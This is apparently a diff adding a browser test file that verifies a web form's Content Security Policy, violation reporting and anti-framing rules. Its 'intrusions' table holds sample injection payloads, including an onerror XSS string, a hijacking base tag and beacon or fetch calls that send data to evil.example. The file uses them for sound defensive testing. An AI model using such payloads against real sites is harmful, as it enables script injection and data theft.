@@ -1,0 +1,129 @@
+// The security policy in a real browser: what it stops, that the page knows of nothing it stops (every other journey is
+// watched for that, `setup/test.ts`), and that nobody else may frame it.
+import { openAt } from './driver/visits.ts'
+import { unique } from './personas/persona.ts'
+import { anna } from './personas/poland.ts'
+import { test } from './setup/embedding.ts'
+import { expect } from './setup/test.ts'
+
+/** What something foreign that got into the page would try; a title tells where it succeeds. */
+const intrusions: Readonly<Record<string, () => void>> = {
+  'a script of its own words': () => {
+    const script = document.createElement('script')
+    script.text = 'document.title = "taken"'
+    document.head.append(script)
+  },
+  'a script from elsewhere': () => {
+    const script = document.createElement('script')
+    script.src = 'https://evil.example/taken.js'
+    document.head.append(script)
+  },
+  'markup from a string': () => {
+    const place = document.createElement('div')
+    Reflect.set(place, 'innerHTML', '<img src=x onerror="document.title = `taken`">')
+    document.body.append(place)
+  },
+  'a handler in markup': () => {
+    const button = document.createElement('button')
+    button.setAttribute('onclick', 'document.title = "taken"')
+    document.body.append(button)
+    button.click()
+  },
+  'a base for every address': () => {
+    const base = document.createElement('base')
+    base.href = 'https://evil.example/'
+    document.head.prepend(base)
+    if (document.baseURI.includes('evil')) document.title = 'taken'
+  },
+  'a style of its own': () => {
+    const style = document.createElement('style')
+    style.textContent = 'body { display: none }'
+    document.head.append(style)
+    if (getComputedStyle(document.body).display === 'none') document.title = 'taken'
+  },
+  'a picture that tells': () => {
+    new Image().src = `https://evil.example/?told=${document.title}`
+  },
+  'a call elsewhere': () =>
+    void fetch('https://evil.example/', { method: 'POST', body: 'told' }).catch(() => undefined),
+  'a frame of somebody else': () => {
+    const frame = document.createElement('iframe')
+    frame.src = 'https://evil.example/'
+    document.body.append(frame)
+  },
+}
+
+for (const [name, intrude] of Object.entries(intrusions)) {
+  test(`${name} comes to nothing, and is told`, async ({ page, tukan, watched }) => {
+    await page.goto(tukan.url)
+    await page.locator('dialog:modal').waitFor()
+    expect(watched.violations).toEqual([])
+    const arrived: string[] = []
+    await page.route('**://evil.example/**', (route) => {
+      arrived.push(route.request().url())
+      return route.abort()
+    })
+    // Throws where Trusted Types stop it on the spot.
+    await page.evaluate(intrude).catch(() => undefined)
+    await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
+    await expect(page).not.toHaveTitle('taken')
+    expect(arrived).toEqual([])
+    watched.violations.length = 0
+    watched.errors.length = 0
+  })
+}
+
+test('violations are sent to the server', async ({ page, tukan, watched }) => {
+  await page.goto(tukan.url)
+  const reported = await page.evaluate(async () => {
+    const seen = new Promise<string>((resolve) => {
+      document.addEventListener('securitypolicyviolation', (event) => resolve(event.originalPolicy), { once: true })
+    })
+    new Image().src = 'https://evil.example/x.png'
+    return seen
+  })
+  expect(reported).toContain('report-uri /policy-reports')
+  const told = await page.request.post(`${tukan.origin}/policy-reports`, {
+    headers: { 'content-type': 'application/csp-report' },
+    data: { 'csp-report': { 'effective-directive': 'img-src', 'blocked-uri': 'https://evil.example/x.png' } },
+  })
+  expect(told.status()).toBe(204)
+  watched.violations.length = 0
+})
+
+test('pictures of the page itself and what an applicant opens break no rule', async ({ page, tukan }) => {
+  await openAt(page, tukan, unique(anna), 'employer-name')
+  await page.goto(`${tukan.url}terms`)
+  await page.goto(`${tukan.origin}/docs`)
+  await page.goto(`${tukan.origin}/sandbox`)
+  await expect(page.locator('h1')).toHaveCSS('font-size', '28px')
+})
+
+test('a page of somebody else cannot frame the form: not where nobody may, not where others may', async ({
+  page,
+  tukan,
+  embedding,
+  watched,
+}) => {
+  const { server, host, foreign } = embedding
+  await page.goto(`${foreign}/`)
+  await expect.poll(() => watched.violations.join()).toContain('frame-ancestors')
+  expect(page.frames().at(1)?.url()).not.toContain(server.url)
+  await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
+  watched.violations.length = 0
+
+  // The host is known to one product's server, not to the other's.
+  await page.goto(`${host}/`)
+  await page.frameLocator('iframe').locator('form[data-page]').waitFor()
+  expect(watched.violations).toEqual([])
+  await page.evaluate(
+    (address) => {
+      const frame = document.querySelector('iframe')
+      if (frame !== null) frame.src = address
+    },
+    server.url.replace(server.origin, tukan.origin),
+  )
+  await expect.poll(() => watched.violations.length).toBeGreaterThan(0)
+  await expect(page.frameLocator('iframe').locator('form')).toHaveCount(0)
+  watched.violations.length = 0
+})
